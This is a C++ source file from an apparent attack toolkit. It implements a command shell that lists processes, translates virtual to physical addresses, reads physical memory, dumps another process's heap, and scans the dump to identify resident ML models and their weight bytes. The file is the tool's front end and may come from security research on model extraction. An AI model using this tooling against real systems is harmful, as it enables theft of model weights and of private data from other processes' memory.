#include "attack/command_shell.h"

#include "attack/address_resolver.h"
#include "attack/hexdump_analyzer.h"
#include "util/strings.h"

namespace msa::attack {

namespace {

constexpr const char* kHelp =
    "commands:\n"
    "  ps                      process listing\n"
    "  maps <pid>              /proc/<pid>/maps\n"
    "  v2p <pid> <vaddr>       virtual -> physical translation\n"
    "  devmem <paddr>          32-bit physical read\n"
    "  scrape <pid>            dump the pid's heap (retained)\n"
    "  grep <needle>           search the retained dump\n"
    "  strings [min_len]       printable strings in the retained dump\n"
    "  identify                model identification on the retained dump\n"
    "  help                    this text";

std::optional<std::int64_t> parse_pid(const std::string& s) {
  try {
    std::size_t pos = 0;
    const long long v = std::stoll(s, &pos);
    if (pos != s.size() || v <= 0) return std::nullopt;
    return v;
  } catch (const std::exception&) {
    return std::nullopt;
  }
}

}  // namespace

CommandShell::CommandShell(dbg::SystemDebugger& debugger)
    : debugger_{debugger}, signatures_{SignatureDb::for_zoo()} {}

std::string CommandShell::execute(const std::string& line) {
  const auto words = util::split_ws(line);
  if (words.empty()) return "";
  const std::string& cmd = words.front();
  const std::vector<std::string> args{words.begin() + 1, words.end()};

  try {
    if (cmd == "help") return kHelp;
    if (cmd == "ps") return cmd_ps();
    if (cmd == "maps") return cmd_maps(args);
    if (cmd == "v2p") return cmd_v2p(args);
    if (cmd == "devmem") return cmd_devmem(args);
    if (cmd == "scrape") return cmd_scrape(args);
    if (cmd == "grep") return cmd_grep(args);
    if (cmd == "strings") return cmd_strings(args);
    if (cmd == "identify") return cmd_identify();
    return "error: unknown command '" + cmd + "' (try help)";
  } catch (const dbg::DebuggerAccessDenied& e) {
    return std::string{"error: "} + e.what();
  } catch (const os::PermissionError& e) {
    return std::string{"error: "} + e.what();
  } catch (const std::invalid_argument& e) {
    return std::string{"error: "} + e.what();
  } catch (const std::runtime_error& e) {
    return std::string{"error: "} + e.what();
  }
}

std::string CommandShell::cmd_ps() { return debugger_.ps(); }

std::string CommandShell::cmd_maps(const std::vector<std::string>& args) {
  if (args.size() != 1) return "error: usage: maps <pid>";
  const auto pid = parse_pid(args[0]);
  if (!pid) return "error: bad pid '" + args[0] + "'";
  return debugger_.maps(*pid);
}

std::string CommandShell::cmd_v2p(const std::vector<std::string>& args) {
  if (args.size() != 2) return "error: usage: v2p <pid> <vaddr>";
  const auto pid = parse_pid(args[0]);
  if (!pid) return "error: bad pid '" + args[0] + "'";
  std::uint64_t va = 0;
  try {
    va = util::parse_hex(args[1]);
  } catch (const std::invalid_argument&) {
    return "error: bad address '" + args[1] + "'";
  }
  const auto pa = debugger_.virt_to_phys(*pid, va);
  return pa ? util::hex_0x(*pa) : "error: page not present";
}

std::string CommandShell::cmd_devmem(const std::vector<std::string>& args) {
  if (args.size() != 1) return "error: usage: devmem <paddr>";
  std::uint64_t pa = 0;
  try {
    pa = util::parse_hex(args[0]);
  } catch (const std::invalid_argument&) {
    return "error: bad address '" + args[0] + "'";
  }
  return util::hex_0x(debugger_.devmem32(pa), 8);
}

std::string CommandShell::cmd_scrape(const std::vector<std::string>& args) {
  if (args.size() != 1) return "error: usage: scrape <pid>";
  const auto pid = parse_pid(args[0]);
  if (!pid) return "error: bad pid '" + args[0] + "'";

  AddressResolver resolver{debugger_};
  const ResolvedTarget target = resolver.resolve_heap(*pid);
  MemoryScraper scraper{debugger_};
  dump_ = scraper.scrape(target);
  return "scraped " + std::to_string(dump_->bytes.size()) + " bytes (" +
         std::to_string(dump_->devmem_reads) + " devmem reads, " +
         std::to_string(target.pages_resolved()) + " pages) from heap " +
         util::hex_no_prefix(target.heap_start) + "-" +
         util::hex_no_prefix(target.heap_end);
}

std::string CommandShell::cmd_grep(const std::vector<std::string>& args) {
  if (args.size() != 1) return "error: usage: grep <needle>";
  if (!dump_) return "error: no dump retained (run scrape first)";
  HexDumpAnalyzer analyzer{dump_->bytes};
  const auto hits = analyzer.grep(args[0]);
  if (hits.empty()) return "(no matches)";
  std::string out;
  for (const auto& h : hits) {
    out += h.row_text;
    out += '\n';
  }
  out += '(';
  out += std::to_string(hits.size());
  out += " matching rows)";
  return out;
}

std::string CommandShell::cmd_strings(const std::vector<std::string>& args) {
  if (!dump_) return "error: no dump retained (run scrape first)";
  std::size_t min_len = 6;
  if (!args.empty()) {
    try {
      min_len = static_cast<std::size_t>(std::stoul(args[0]));
    } catch (const std::exception&) {
      return "error: bad length '" + args[0] + "'";
    }
  }
  HexDumpAnalyzer analyzer{dump_->bytes};
  return util::join(analyzer.strings(min_len), "\n");
}

std::string CommandShell::cmd_identify() {
  if (!dump_) return "error: no dump retained (run scrape first)";
  const auto matches = signatures_.scan(dump_->bytes);
  if (matches.empty()) return "no model signatures found";
  std::string out;
  for (const auto& m : matches) {
    out += m.model_name + " hits=" + std::to_string(m.hits) +
           " needles=" + std::to_string(m.distinct_needles) + "\n";
  }
  if (const auto deep = SignatureDb::identify_deep(dump_->bytes)) {
    out += "deep: " + deep->model_name + " (" +
           std::to_string(deep->param_bytes) + " weight bytes at offset " +
           std::to_string(deep->container_offset) + ")\n";
  }
  out += "=> " + matches.front().model_name;
  return out;
}

}  // namespace msa::attack
